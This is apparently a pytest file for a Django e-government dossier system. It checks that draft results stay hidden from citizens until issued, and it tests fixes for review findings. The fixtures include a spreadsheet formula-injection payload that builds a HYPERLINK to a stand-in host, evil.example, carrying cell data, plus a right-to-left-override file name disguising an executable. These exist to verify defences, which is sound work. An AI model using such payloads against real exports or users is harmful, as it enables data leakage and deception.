"""Issue #19, finding 6: the citizen sees a result only once it is issued to them.

The review uploaded a draft result (a negative one too) at "awaiting approval": it appeared in
the applicant's data store and downloaded with 200, only a template hid it on the dossier page.
One selector (`dossiers.selectors.results`) now decides for the data store, its downloads, the
dossier page, the API and the public verification page; this walks every status. The register
export's formula neutralising (finding 3) is checked here too, with the officers' real export.
"""

from __future__ import annotations

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

import pytest

from accounts.tests.factories import login_with_mfa
from dossiers.constants import RESULT_ISSUED_STATUSES, Actor, DossierStatus
from dossiers.selectors.results import citizen_result_document, results_withheld
from dossiers.services.results import office_result_upload
from dossiers.tests.factories import make_cast, make_draft, place_in
from dossiers.tests.submission_helpers import pdf_bytes

pytestmark = pytest.mark.django_db
S = DossierStatus
RESULT_TITLE = "Kết quả giải quyết"


@pytest.fixture(autouse=True)
def _no_scanner(settings):
    settings.VIRUS_SCANNER = "none"


def _with_draft_result(status: DossierStatus = S.AWAITING_APPROVAL):
    """What the review did: a result uploaded by the agency head while awaiting approval."""
    cast = make_cast()
    dossier = place_in(make_draft(cast), status, result_kind="negative")
    office_result_upload(
        dossier=dossier,
        by=cast.staff[Actor.AGENCY_HEAD],
        data=pdf_bytes("Tu choi cap phep"),
        name="ket-qua-tu-choi.pdf",
    )
    dossier.refresh_from_db()
    assert dossier.result_document_uuid is not None
    return cast, dossier


def _what_the_citizen_sees(cast, dossier) -> dict[str, bool]:
    client = Client()
    client.force_login(cast.citizen)
    uuid = dossier.result_document_uuid
    store = client.get(reverse("documents:list")).content.decode()
    download = client.get(reverse("documents:download", kwargs={"uuid": uuid}))
    detail = client.get(reverse("documents:detail", kwargs={"uuid": uuid}))
    page = client.get(reverse("dossiers:detail", kwargs={"uuid": dossier.uuid})).content.decode()
    api = client.get(f"/api/v1/dossiers/{dossier.uuid}")
    verify = Client().get(reverse("verify:document", kwargs={"uuid": uuid}))
    return {
        "store": RESULT_TITLE in store,
        "download": download.status_code == 200,
        "detail": detail.status_code == 200,
        "page": "Tải kết quả giải quyết" in page,
        "api": api.status_code == 200 and api.json()["result_document"] == str(uuid),
        "verify": verify.status_code == 200 and "Kết quả giải quyết" in verify.content.decode(),
    }


def test_the_reviewed_attack_a_draft_result_is_not_the_citizens():
    cast, dossier = _with_draft_result(S.AWAITING_APPROVAL)
    seen = _what_the_citizen_sees(cast, dossier)
    assert seen == dict.fromkeys(seen, False)


@pytest.mark.parametrize("status", [s for s in S if s not in (S.DRAFT,)])
def test_every_status_shows_the_result_only_once_issued(status):
    cast, dossier = _with_draft_result()
    dossier = place_in(dossier, status)
    seen = _what_the_citizen_sees(cast, dossier)
    issued = status in RESULT_ISSUED_STATUSES or status == S.CORRECTION
    # In correction the result issued before stays the citizen's (nothing replaced it yet).
    expected = dict.fromkeys(seen, issued)
    if status not in RESULT_ISSUED_STATUSES and status != S.CORRECTION:
        expected["verify"] = False
    assert seen == expected, status


def _attach_unsigned(cast, dossier, text: str):
    """A replacement result, attached as the services do (signing itself is tested elsewhere)."""
    from documents.constants import DocumentSource
    from documents.services import document_store
    from dossiers.services.results import dossier_result_attach

    document = document_store(
        data=pdf_bytes(text),
        title="Kết quả giải quyết: bản thay thế",
        source=DocumentSource.ISSUED,
        original_name="thay-the.pdf",
        created_by=cast.staff[Actor.AGENCY_HEAD],
        issued_by_system=True,
        dossier_reference=dossier.code,
        owner_user=dossier.applicant,
    )
    dossier_result_attach(
        dossier=dossier,
        document_uuid=document.uuid,
        by=cast.staff[Actor.AGENCY_HEAD],
        role=Actor.AGENCY_HEAD,
        signature={"draft": True},
    )
    dossier.refresh_from_db()
    return document.uuid


def _transition_event(dossier, to):
    from dossiers.constants import EventKind
    from dossiers.models import DossierEvent

    DossierEvent.objects.create(
        dossier=dossier,
        kind=EventKind.TRANSITION,
        from_status=dossier.status,
        to_status=to,
        role=Actor.RECEPTION_OFFICER,
    )
    return place_in(dossier, to)


def test_a_replaced_draft_never_becomes_the_citizens():
    """The draft replaced by the signed copy stays the agency's after the result is issued."""
    cast, dossier = _with_draft_result(S.AWAITING_APPROVAL)
    draft = dossier.result_document_uuid
    dossier = place_in(dossier, S.SIGNING)
    signed = _attach_unsigned(cast, dossier, "Ban da ky")
    dossier = _transition_event(dossier, S.DONE)
    assert citizen_result_document(dossier) == signed
    assert results_withheld(user=cast.citizen) == {draft}
    client = Client()
    client.force_login(cast.citizen)
    assert client.get(reverse("documents:download", kwargs={"uuid": draft})).status_code == 404
    assert client.get(reverse("documents:download", kwargs={"uuid": signed})).status_code == 200
    assert Client().get(reverse("verify:document", kwargs={"uuid": draft})).status_code != 200


def test_a_replacement_uploaded_during_correction_waits_for_its_return():
    cast, dossier = _with_draft_result(S.AWAITING_APPROVAL)
    first = dossier.result_document_uuid
    dossier = _transition_event(dossier, S.DONE)
    dossier = _transition_event(dossier, S.RETURNED)
    dossier = _transition_event(dossier, S.CORRECTION)
    replacement = _attach_unsigned(cast, dossier, "Ban dinh chinh")
    assert replacement != first
    assert citizen_result_document(dossier) == first
    assert results_withheld(user=cast.citizen) == {replacement}
    dossier = _transition_event(dossier, S.RETURNED)
    assert citizen_result_document(dossier) == replacement
    assert results_withheld(user=cast.citizen) == set()  # the first was issued: still theirs


def test_the_officer_still_sees_the_draft_under_a_cleaned_name(client):
    """Finding 8: the officer's inline view kept the uploader's file name."""
    cast = make_cast()
    dossier = place_in(make_draft(cast), S.AWAITING_APPROVAL, result_kind="negative")
    office_result_upload(
        dossier=dossier,
        by=cast.staff[Actor.AGENCY_HEAD],
        data=pdf_bytes("Ket qua"),
        name="Trả lời ông Phạm Văn Hỏi\u202efdp.exe",
    )
    login_with_mfa(client, cast.staff[Actor.AGENCY_HEAD])
    shown = client.get(reverse("office:result_file", kwargs={"uuid": dossier.uuid}))
    assert shown.status_code == 200
    disposition = shown["Content-Disposition"]
    assert disposition.startswith("inline")
    assert 'filename="tra-loi-ong-pham-van-hoifdp.pdf"' in disposition, disposition
    assert "no-store" in shown["Cache-Control"]


# --- finding 3, the register export ---------------------------------------------------------------


def test_register_xlsx_never_holds_a_formula(client):
    from django.utils import timezone

    from openpyxl import load_workbook

    cast = make_cast()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Xem hồ sơ")'
    dossier = place_in(make_draft(cast), S.RECEIVED, received_at=timezone.now())
    dossier.applicant_data = {"full_name": evil, "phone": "+84912345678", "address": "@SUM(1)"}
    dossier.save(update_fields=["applicant_data"])
    login_with_mfa(client, cast.staff[Actor.RECEPTION_OFFICER])
    today = timezone.localdate().isoformat()
    response = client.get(
        "/office/so-theo-doi/",
        {"agency": str(cast.receiving.uuid), "tu": today, "den": today, "dinh_dang": "xlsx"},
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert "'" + evil in values
    assert "'@SUM(1)" in values


def test_uploading_the_result_as_a_file_does_not_hand_it_over(client):
    """Through the officer's page, as in the review."""
    cast = make_cast()
    dossier = place_in(make_draft(cast), S.AWAITING_APPROVAL, result_kind="positive")
    login_with_mfa(client, cast.staff[Actor.AGENCY_HEAD])
    response = client.post(
        reverse("office:result", kwargs={"uuid": dossier.uuid}),
        {"file": SimpleUploadedFile("kq.pdf", pdf_bytes("Ket qua"), "application/pdf")},
    )
    assert response.status_code == 302
    dossier.refresh_from_db()
    seen = _what_the_citizen_sees(cast, dossier)
    assert seen == dict.fromkeys(seen, False)
